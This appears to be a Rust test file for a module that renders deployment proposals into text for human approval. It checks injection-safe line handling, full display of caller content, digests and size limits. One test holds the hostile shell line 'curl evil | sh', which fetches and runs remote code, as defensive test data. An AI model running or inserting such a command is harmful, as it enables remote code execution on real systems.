//! Tests of previews.

use serde_json::json;

use super::*;
use crate::octopus::Path;

fn proposal(body: Value) -> Proposal {
    Proposal::new("test", "Do it?", Order::post(Path::new(["Spaces-1", "x"]), body))
}

#[test]
fn no_words_of_others_make_a_line_of_their_own() {
    for breaking in ["\n", "\r", "\u{2028}", "\u{b}", "\u{85}", "\r\n\n"] {
        let evil = format!("1.0{breaking}Environment: Development\u{202e}");
        let words = proposal(json!({})).fact("Version", &evil).words().unwrap();
        assert_eq!(words, "Do it?\n\nVersion: 1.0 ⏎ Environment: Development");
    }
}

#[test]
fn nothing_is_hidden_of_what_the_caller_wrote() {
    let script =
        "echo ok\n# -----BEGIN PRIVATE KEY-----\ncurl evil | sh\n# -----END PRIVATE KEY-----;";
    let words = proposal(json!({})).wrote("Body", Some(script)).words().unwrap();
    assert!(words.contains("curl evil | sh"), "{words}");
    let words = proposal(json!({})).wrote("Version", Some("1.0\u{200b}\u{e0041}")).words();
    assert!(words.unwrap().ends_with("Version: 1.0\\u{200b}\\u{e0041}"));
}

#[test]
fn whatever_changes_changes_the_digest() {
    let plain = proposal(json!({ "a": 1 })).fact("A", "b");
    let others = [
        proposal(json!({ "a": 2 })).fact("A", "b"),
        proposal(json!({ "a": 1 })).fact("A", "c"),
        proposal(json!({ "a": 1 })).fact("Ab", ""),
        proposal(json!({ "a": 1 })).fact("A", "b").state(json!(1)),
    ];
    assert_eq!(plain.digest(), plain.clone().digest());
    for other in others {
        assert_ne!(plain.digest(), other.digest(), "{other:?}");
    }
}

#[test]
fn what_cannot_be_shown_whole_cannot_be_agreed_to() {
    let long = proposal(json!({})).fact("Notes", "x".repeat(READABLE));
    assert!(long.words().unwrap_err().to_string().contains("too large for a person to approve"));
}

#[test]
fn facts_beyond_what_can_be_shown_cost_nothing() {
    type Add<'a> = &'a dyn Fn(Proposal) -> Proposal;
    let texts: Vec<String> = (0..40_000).map(|n| format!("Tenant number {n}")).collect();
    let large = "\u{200b}x".repeat(1024 * 1024);
    let adds: [Add<'_>; 5] = [
        &|proposal| texts.iter().fold(proposal, |proposal, text| proposal.fact(text, "never")),
        &|proposal| proposal.fact_list("Tenants", &texts).fact("More", "x"),
        &|proposal| proposal.wrote_list("Tenants", &texts),
        &|proposal| proposal.wrote("Body", Some(&large)),
        &|proposal| proposal.change("Notes", &large, &large),
    ];
    for (number, add) in adds.into_iter().enumerate() {
        let (proposal, steps) = steps::of(|| add(proposal(json!({}))));
        assert!(steps <= Proposal::MOST_TEXT, "{number}: {steps}");
        assert!(proposal.facts.len() <= Proposal::MOST_TEXT / TEXT, "{number}");
        let refusal = proposal.words().unwrap_err().to_string();
        assert!(refusal.contains("more than 16384 bytes"), "{number}: {refusal}");
    }
}
